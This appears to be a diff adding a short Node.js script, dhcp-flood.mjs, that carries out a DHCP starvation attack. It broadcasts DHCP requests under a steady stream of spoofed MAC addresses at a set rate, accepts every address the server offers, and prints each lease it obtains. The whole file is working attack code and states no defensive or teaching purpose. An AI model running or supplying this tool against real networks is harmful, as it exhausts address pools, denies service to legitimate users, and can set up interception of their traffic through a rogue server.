@@ -1,0 +1,39 @@
+// dhcp-flood.mjs RATE: asks by DHCP in the names of ever new MACs, RATE times a second, and takes each address
+// that is offered. Prints a line for each lease. Ends when its standard input does.
+import { createSocket } from 'node:dgram';
+
+const cookie = [0x63, 0x82, 0x53, 0x63];
+const [rate] = process.argv.slice(2).map(Number);
+const socket = createSocket('udp4');
+let sent = 0;
+
+/** Returns a message of a client whose MAC ends with these four bytes, which also are the transaction. */
+function message(id, type, options) {
+  const bytes = Buffer.alloc(300);
+  bytes.set([1, 1, 6]);
+  bytes.set(id, 4);
+  bytes.writeUInt16BE(0x8000, 10);
+  bytes.set([0x02, 0xee, ...id], 28);
+  bytes.set([...cookie, 53, 1, type, ...options, 255], 236);
+  return bytes;
+}
+
+function send(bytes) {
+  socket.send(bytes, 67, '255.255.255.255');
+}
+
+socket.on('message', reply => {
+  const id = reply.subarray(4, 8);
+  const [ip, type] = [reply.subarray(16, 20), reply[242]];
+  if (type === 2) send(message(id, 3, [50, 4, ...ip, 54, 4, ...reply.subarray(20, 24)]));
+  if (type === 5) console.log(ip.join('.'));
+});
+socket.bind(68, () => {
+  socket.setBroadcast(true);
+  setInterval(() => {
+    const id = Buffer.alloc(4);
+    id.writeUInt32BE(++sent);
+    send(message(id, 1, []));
+  }, 1000 / rate);
+});
+process.stdin.on('end', () => process.exit()).resume();
